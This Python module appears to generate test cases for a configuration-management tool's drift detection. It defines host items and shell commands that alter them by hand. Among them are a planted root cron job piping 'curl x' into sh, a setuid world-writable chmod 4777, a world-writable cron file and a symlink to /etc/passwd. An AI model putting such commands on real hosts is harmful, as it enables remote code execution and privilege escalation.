"""What lies on a host, and how people change it: packages, files, mounts, settings, cron."""

import base64
import hashlib
import random

from omlib.model.item import Attributes

from .item import Item, changes, refused, written

FOLDER = "/opt/law"
APT = "DEBIAN_FRONTEND=noninteractive apt-get -qy"
JOBS = (
    "0 2 * * * root /usr/local/sbin/backup  --all",
    "@daily ops true",
    "MAILTO=ops",
    "*/5 1-3 * * mon root /bin/x % y",
)


def package(chance: random.Random, n: int) -> Item:
    name = ("omagent", "sysmon")[n]
    version = ("1.1", "0.9")[n]
    wanted = chance.choice(["present", "absent", version])
    told: Attributes = {"present": wanted != "absent"}
    if wanted == version:
        told = {**told, "version": version}
    by_hand = [
        ("installed", f"{APT} install {name}"),
        ("removed, its configuration is left", f"{APT} remove {name}"),
        ("purged", f"{APT} purge {name}"),
        ("held", f"{APT} install {name}; apt-mark hold {name}; apt-mark unhold {name}"),
    ]
    if name == "omagent":
        by_hand.append(("an older one", f"{APT} install --allow-downgrades omagent=1.0"))
    return Item(
        kind="package",
        name=name,
        attributes=told,
        changes=changes(by_hand),
        clean=f"{APT} purge {name}",
    )


def file(chance: random.Random, n: int) -> Item:
    return chance.choice([_content, _folder, _link, _no_file])(chance, n)


def _content(chance: random.Random, n: int) -> Item:
    path = f"{FOLDER}/f{n}"
    content = chance.choice(
        [b"", b"port = 443\n", "新的 '\"$x\n".encode(), b"\x00\xff\xbb\xb6", b"no end"]
    )
    rights: dict[str, str] = {"owner": "ops", "group": "adm", "mode": "0640"}
    some = chance.sample(sorted(rights), chance.randrange(4))
    told: Attributes = {"sha256": hashlib.sha256(content).hexdigest()}
    same = f"echo {base64.b64encode(content).decode()} | base64 -d"
    apart = f"{FOLDER}-apart{n}"
    return Item(
        kind="file",
        name=path,
        attributes={**told, **{one: rights[one] for one in some}},
        content=content,
        changes=(
            *changes(
                [
                    ("gone", f"rm -rf {path}"),
                    ("its folder gone", f"rm -rf {FOLDER}"),
                    ("other content", f"echo by hand >> {path}"),
                    ("same content, made anew", f"rm -f {path}; {same} > {path}"),
                    ("other owner", f"chown games {path}"),
                    ("other group", f"chgrp games {path}"),
                    ("other mode", f"chmod 4777 {path}"),
                    ("touched", f"touch -d 2001-01-01 {path}"),
                    ("a link to the same", f"{same} > {apart}; ln -sf {apart} {path}"),
                    ("a link to other content", f"echo x > {apart}; ln -sf {apart} {path}"),
                    ("a link that leads nowhere", f"rm -f {apart}; ln -sfn {apart} {path}"),
                ]
            ),
            refused("a folder in its place", f"rm -f {path}; mkdir {path}", f"rmdir {path}"),
            refused("a pipe in its place", f"rm -f {path}; mkfifo {path}", f"rm -f {path}"),
        ),
        clean=f"rm -rf {FOLDER} {apart}",
    )


def _folder(chance: random.Random, n: int) -> Item:
    path = f"{FOLDER}/f{n}"
    told = chance.choice([{"owner": "ops", "mode": "0750"}, {"mode": "1777"}, {"group": "adm"}])
    return Item(
        kind="file",
        name=path,
        attributes=dict(told),
        changes=changes(
            [
                ("gone", f"rm -rf {path}"),
                ("its folder gone", f"rm -rf {FOLDER}"),
                ("other owner", f"chown games {path}"),
                ("other group", f"chgrp games {path}"),
                ("other mode", f"chmod 0777 {path}"),
                ("something in it", f"touch {path}/x"),
                ("a file in its place", f"rm -rf {path}; touch {path}"),
            ]
        ),
        clean=f"rm -rf {FOLDER}",
    )


def _link(chance: random.Random, n: int) -> Item:
    path = f"{FOLDER}/f{n}"
    target = chance.choice(["/etc/hostname", "nowhere", f"{FOLDER}/x y"])
    return Item(
        kind="file",
        name=path,
        attributes={"target": target, **({"owner": "ops"} if chance.random() < 0.5 else {})},
        changes=(
            *changes(
                [
                    ("gone", f"rm -f {path}"),
                    ("its folder gone", f"rm -rf {FOLDER}"),
                    ("leads elsewhere", f"ln -sfn /etc/passwd {path}"),
                    ("other owner", f"chown -h games {path}"),
                    ("a file in its place", f"rm -f {path}; echo x > {path}"),
                ]
            ),
            refused("a folder in its place", f"rm -f {path}; mkdir {path}", f"rmdir {path}"),
        ),
        clean=f"rm -rf {FOLDER}",
    )


def _no_file(chance: random.Random, n: int) -> Item:
    path = f"{FOLDER}/f{n}"
    return Item(
        kind="file",
        name=path,
        attributes={"present": False},
        changes=(
            *changes(
                [
                    ("made", f"touch {path}"),
                    ("an empty folder made", f"mkdir {path}"),
                    ("a link made", f"ln -s nowhere {path}"),
                    ("its folder gone", f"rm -rf {FOLDER}"),
                ]
            ),
            refused("a full folder made", f"mkdir -p {path}/x", f"rm -rf {path}"),
        ),
        clean=f"rm -rf {FOLDER}",
    )


def root_folder(chance: random.Random, n: int) -> Item:
    """In which all the others lie."""
    return Item(
        kind="file",
        name=FOLDER,
        attributes={"present": True, "mode": "0755", "owner": "root"},
        changes=changes([("other mode", f"chmod 0700 {FOLDER}")]),
        clean=f"rm -rf {FOLDER}",
    )


def mount(chance: random.Random, n: int) -> Item:
    """Only what fstab(5) says of it: a host of the lab may not mount."""
    point = f"/mnt/law{n}"
    told: Attributes = {"mounted": False, "at_boot": False}
    options = ("noexec", "nofail")
    if chance.random() < 0.7:
        more: Attributes = {"source": "UUID=0a1b", "fstype": "xfs", "boot_options": options}
        told = {"mounted": False, "at_boot": True, **more}
    line = f"files:/srv {point} nfs defaults 0 0"
    return Item(
        kind="mount",
        name=point,
        attributes=told,
        changes=changes(
            [
                ("its line gone", f"sed -i '\\|{point}|d' /etc/fstab"),
                ("another line", f"sed -i '\\|{point}|d' /etc/fstab; echo '{line}' >> /etc/fstab"),
                ("a second line", f"echo '{line}' >> /etc/fstab"),
                ("an extra option", f"sed -i '\\|{point}|s/noexec/noexec,ro/' /etc/fstab"),
                ("fewer options", f"sed -i '\\|{point}|s/noexec,//' /etc/fstab"),
                (
                    "options turned round",
                    f"sed -i '\\|{point}|s/noexec,nofail/nofail,noexec/' /etc/fstab",
                ),
                ("not at boot", f"sed -i '\\|{point}|s/noexec/noexec,noauto/' /etc/fstab"),
                ("other source", f"sed -i '\\|{point}|s/0a1b/ffff/' /etc/fstab"),
                ("other type", f"sed -i '\\|{point}|s/xfs/ext4/' /etc/fstab"),
                ("its line a comment", f"sed -i '\\|{point}|s/^/# /' /etc/fstab"),
            ]
        ),
        clean=f"sed -i '\\|{point}|d' /etc/fstab; rmdir {point}",
    )


def sysctl(chance: random.Random, n: int) -> Item:
    """What is set at boot: the kernel of a container takes no setting."""
    key = ("net.ipv4.ip_forward", "net.ipv4.tcp_rmem", "kernel.sysrq")[n]
    value = ("0", "4096\t131072  6291456", "176")[n]
    own, early, late = (f"/etc/sysctl.d/{name}.conf" for name in ("zz-omlib", "05-law", "zzz-law"))
    return Item(
        kind="sysctl",
        name=key,
        attributes={"persistent": value},
        changes=(
            *changes(
                [
                    ("its line gone", f"sed -i '/^{key}/d' {own}"),
                    ("other value", f"sed -i 's/^{key} *=.*/{key} = 7 8 9/' {own}"),
                    ("with slashes", f"echo '{key.replace('.', '/')} = 3' >> {own}"),
                    ("a comment", f"echo '# {key} = 3' >> {own}"),
                    ("set before it", f"echo '{key} = 5' >> {early}"),
                    ("set early, not later", f"sed -i '/^{key}/d' {own}; echo {key}=5 >> {early}"),
                ]
            ),
            refused("set after it", f"echo '{key} = 5' >> {late}", f"sed -i '/^{key}/d' {late}"),
        ),
        clean=f"rm -f {own} {early} {late}",
    )


def kernel_module(chance: random.Random, n: int) -> Item:
    """What boot makes of it: a container loads none."""
    name = ("usb_storage", "cramfs", "br_netfilter")[n]
    told = chance.choice([{"blocked": True}, {"blocked": False}, {"at_boot": True}])
    block, boot = f"/etc/modprobe.d/omlib-{name}.conf", f"/etc/modules-load.d/omlib-{name}.conf"
    other = "/etc/modprobe.d/law.conf"
    return Item(
        kind="kernel_module",
        name=name,
        attributes=dict(told),
        before="mkdir -p /etc/modprobe.d",
        changes=changes(
            [
                ("its file gone", f"rm -f {block} {boot}"),
                ("blocked elsewhere", f"echo 'install {name} /bin/true' >> {other}"),
                (
                    "blocked by its other name",
                    f"echo 'blacklist {name.replace('_', '-')}' > {other}",
                ),
                ("only blacklisted", f"echo 'blacklist {name}' > {block}"),
                ("named for boot elsewhere", f"echo '{name}' >> /etc/modules"),
                ("a comment", f"echo '# install {name} /bin/true' >> {other}"),
            ]
        ),
        clean=f"rm -f {block} {boot} {other}; sed -i '/{name}/d' /etc/modules",
    )


def cron(chance: random.Random, n: int) -> Item:
    name = f"law{n}"
    path = f"/etc/cron.d/{name}"
    jobs = tuple(chance.sample(JOBS, 2))
    told: Attributes = {"present": True, "jobs": jobs}
    if chance.random() < 0.25:
        told = {"present": False}
    spaced = ["# mine", "", *(job.replace(" * ", "  *\t") for job in jobs)]
    return Item(
        kind="cron",
        name=name,
        attributes=told,
        changes=changes(
            [
                ("gone", f"rm -f {path}"),
                ("extra job", f"echo '* * * * * root curl x|sh' >> {path}"),
                ("other jobs", written(path, JOBS[1:])),
                ("in another order", written(path, jobs[::-1])),
                ("blanks and comments", written(path, spaced)),
                ("open to all", f"chmod 666 {path}"),
                ("of another owner", f"chown ops {path}"),
                ("empty", f": > {path}"),
                ("its last line not ended", f"truncate -s -1 {path}"),
                ("touched", f"touch {path}"),
            ]
        ),
        clean=f"rm -f {path}",
    )
